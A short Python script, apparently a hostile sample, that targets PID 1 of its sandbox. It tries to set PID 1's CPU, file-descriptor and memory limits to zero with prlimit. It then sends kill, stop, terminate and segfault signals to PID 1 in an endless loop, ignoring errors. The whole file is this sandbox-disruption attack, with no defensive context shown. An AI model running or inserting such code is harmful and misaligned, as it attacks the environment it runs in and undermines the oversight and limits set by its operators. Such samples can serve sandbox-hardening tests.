# Tries to limit the first process of its sandbox, and sends it signals until the time is up.
import os, resource
for kind in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
    try:
        resource.prlimit(1, kind, (0, 0))
    except (OSError, PermissionError):
        pass
while True:
    for number in (17, 9, 19, 15, 11):
        try:
            os.kill(1, number)
        except OSError:
            pass
